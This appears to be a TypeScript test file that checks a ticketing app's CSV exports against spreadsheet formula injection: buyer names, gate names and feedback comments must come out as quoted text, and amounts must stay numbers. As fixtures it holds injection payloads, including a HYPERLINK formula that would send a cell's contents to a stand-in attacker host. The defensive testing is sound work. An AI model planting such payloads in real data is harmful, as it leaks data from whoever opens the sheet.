// CSV injection (issue 29 item 2): text that fans and scanners typed — names, feedback comments and
// answers, gate names — reaches the organiser's spreadsheet as text, never as a formula; amounts the
// export writes stay numbers. Each export is read back with csv-parse, as a spreadsheet would.
import { parse as parseSync } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { GET as exportGet } from '@/tests/helpers/api';
import { GET as feedbackCsvGet } from '@/tests/helpers/api';
import * as s from '@/lib/server/db/schema';
import { csvHead, csvLines } from '@/lib/server/reports/export-file';
import { majorUnits } from '@/lib/money';
import { useTestDatabase } from '../helpers/db';
import { makeCast, type Cast } from '../helpers/organiser';
import { buy } from '../helpers/purchases';
import { freeSeatsOf } from '../helpers/seats';
import { auth, eventBySlug, makeUser, params, request } from '../helpers/tickets';

const t = useTestDatabase({ seeded: true });
const SLUG = 'dunaj-bratislava-fc-kosice';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const PLUS = '+SUM(1+1)';
const AT = '@SUM(A1)';
const MINUS = '-2+3';
const TAB = '\t=1+1';
const CR = '\r=1+1';

let cast: Cast;
let eventId: string;

beforeAll(async () => {
  const event = await eventBySlug(t.db, SLUG);
  eventId = event.id;
  cast = await makeCast(t.db, event.orgId);
}, 180_000);

async function records(response: Response): Promise<string[][]> {
  expect(response.status).toBe(200);
  return parseSync(Buffer.from(await response.arrayBuffer()), { bom: true, relax_column_count: true }) as string[][];
}

const exportOf = (file: string) =>
  exportGet(request(`/api/v1/organiser/events/${eventId}/exports/${file}?locale=en`, { headers: auth(cast.manager) }), params({ eventId, file }));

describe('fans’ and scanners’ text is written as text', () => {
  let order: Awaited<ReturnType<typeof buy>>;
  let buyer: Awaited<ReturnType<typeof makeUser>>;

  beforeAll(async () => {
    buyer = await makeUser(t.db, 'formula');
    await t.db.update(s.users).set({ firstName: HYPERLINK, lastName: MINUS }).where(eq(s.users.id, buyer.id));
    order = await buy(t.db, buyer, SLUG, { seatIds: await freeSeatsOf(t.db, SLUG, 2, 40) });
  });

  it('orders.csv: the buyer’s name is quoted; the amounts are the same numbers as before', async () => {
    const rows = await records(await exportOf('orders.csv'));
    const row = rows.find((r) => r[0] === order.id)!;
    expect(row[2]).toBe(`'${HYPERLINK} ${MINUS}`);
    expect(row.slice(4, 9)).toEqual(['2', majorUnits(order.subtotalAmount), majorUnits(order.discountAmount), majorUnits(order.feeAmount), majorUnits(order.totalAmount)]);
    expect(row[8]).toMatch(/^\d+\.\d{2}$/);
  });

  it('attendees.csv: first and last names are quoted', async () => {
    const rows = await records(await exportOf('attendees.csv'));
    const mine = rows.filter((r) => r[3] === buyer.email);
    expect(mine).toHaveLength(2);
    for (const row of mine) expect(row.slice(1, 3)).toEqual([`'${HYPERLINK}`, `'${MINUS}`]);
  });

  it('check-ins.csv: a scanner’s gate name is quoted, a plain one left alone', async () => {
    const [ticket] = await t.db.select().from(s.tickets).where(eq(s.tickets.orderId, order.id));
    const gates = [AT, PLUS, TAB, CR, 'North'];
    await t.db.insert(s.scanLog).values(
      gates.map((gate, i) => ({ eventId, ticketId: ticket.id, scannerId: cast.scanner.id, result: 'admitted' as const, gate, scannedAt: new Date(Date.UTC(2031, 0, 1, 16, i)) })),
    );
    const rows = await records(await exportOf('check-ins.csv'));
    const mine = rows.filter((r) => r[3] === ticket.id);
    expect(mine.map((r) => r[1])).toEqual([`'${AT}`, `'${PLUS}`, `'${TAB}`, `'${CR}`, 'North']);
  });

  it('feedback.csv: comments, text answers and the organiser’s question are quoted; ratings stay numbers', async () => {
    const [text, rating] = await t.db
      .insert(s.feedbackQuestions)
      .values([
        { eventId, position: 0, prompt: { sk: '=Čo zmeniť?', cs: '=Co změnit?', en: '=What to change?' }, kind: 'text' },
        { eventId, position: 1, prompt: { sk: 'Jedlo?', cs: 'Jídlo?', en: 'Food?' }, kind: 'rating' },
      ])
      .returning();
    const fans = [await makeUser(t.db, 'feedback-formula-1'), await makeUser(t.db, 'feedback-formula-2')];
    await t.db.insert(s.feedbackResponses).values([
      { eventId, userId: fans[0].id, rating: 4, comment: HYPERLINK, answers: [{ questionId: text.id, text: MINUS }, { questionId: rating.id, rating: 2 }] },
      { eventId, userId: fans[1].id, rating: 5, comment: AT, answers: [{ questionId: text.id, text: 'Nothing' }] },
    ]);
    const response = await feedbackCsvGet(request(`/api/v1/organiser/events/${eventId}/feedback.csv?locale=en`, { headers: auth(cast.owner) }), params({ eventId }));
    const rows = await records(response);
    expect(rows[0].slice(3)).toEqual([`'=What to change?`, 'Food?']);
    const byRating = new Map(rows.slice(1).map((r) => [r[1], r]));
    expect(byRating.get('4')!.slice(1)).toEqual(['4', `'${HYPERLINK}`, `'${MINUS}`, '2']);
    expect(byRating.get('5')!.slice(1)).toEqual(['5', `'${AT}`, 'Nothing', '']);
  });
});

describe('the one writer', () => {
  it('decides by the column’s kind: a negative amount stays a number, the same text in a text column is quoted', () => {
    const columns = [
      { key: 'name', header: 'Name' },
      { key: 'amount', header: 'Amount', kind: 'number' as const },
    ];
    const rows = parseSync(csvHead(columns, 'en') + csvLines([{ name: '-2.50', amount: '-2.50' }, { name: 'Ján', amount: 12.5 }], columns, 'en'), { bom: true }) as string[][];
    expect(rows).toEqual([
      ['Name', 'Amount'],
      [`'-2.50`, '-2.50'],
      ['Ján', '12.5'],
    ]);
  });
});
